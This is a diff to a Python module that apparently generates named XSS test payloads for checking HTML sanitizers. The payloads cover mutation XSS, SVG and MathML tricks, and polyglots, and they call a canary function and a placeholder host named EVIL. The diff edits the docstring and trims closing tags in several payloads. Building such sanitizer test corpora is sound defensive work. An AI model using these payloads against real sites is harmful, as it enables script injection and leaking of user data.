@@ -1,7 +1,7 @@
 """Payloads that try to make a page run a script or ask another host: made from a grammar of techniques, one name each.
 
-``RUN`` in a technique is a call of the canary with the payload's name, ``EVIL`` a host that nobody may ask. Every payload
-that runs as a script calls ``__xss("name")``; every one that only leaks asks for an address below ``EVIL``.
+``RUN`` in a technique is a call of the canary with the payload's name, ``EVIL`` a host that nobody may ask. What runs
+as a script calls ``__xss("name")``; what only leaks asks for an address below ``EVIL``.
 """
 
 from __future__ import annotations
@@ -99,7 +99,7 @@ _MUTATIONS = {
     "noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>">',
     "math-style": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
     "math-mi": "<math><mi//xlink:href='data:x,<script>RUN</script>'>",
-    "math-annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml>',
+    "math-annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style>',
     "math-maction": "<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>",
     "svg-style": '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
     "svg-title": "<svg><title><style><img src=x onerror=RUN></style></title></svg>",
@@ -108,7 +108,7 @@ _MUTATIONS = {
     "svg-script": "<svg><script>RUN</script></svg>",
     "svg-script-href": "<svg><script href=https://" + EVIL + "/x.js></script></svg>",
     "svg-script-entity": "<svg><script>&#47;*x*&#47;RUN</script></svg>",
-    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\" onload=RUN/>#x'/></svg>",
+    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\" onload=RUN/>#x'/>",
     "svg-image": "<svg><image href=https://" + EVIL + "/i.svg /></svg>",
     "svg-feimage": "<svg><filter><feImage href=https://" + EVIL + "/f /></filter></svg>",
     "svg-handler": "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>RUN</handler></svg>",
@@ -279,7 +279,7 @@ _CLOBBERING = {
     "empty-tag": "<>",
 }
 _POLYGLOTS = {
-    "one": "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+RUN//'>",
+    "one": "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+RUN//'>",
     "two": "'\"><svg/onload=RUN><!--</script>--></style></title><img src=x onerror=RUN>",
     "three": "*/RUN/*'/*\"/*`/*--></script><svg onload=RUN>{{RUN}}${RUN}",
     "four": "\" onclick=RUN//<button ' onclick=RUN//> */ RUN//",
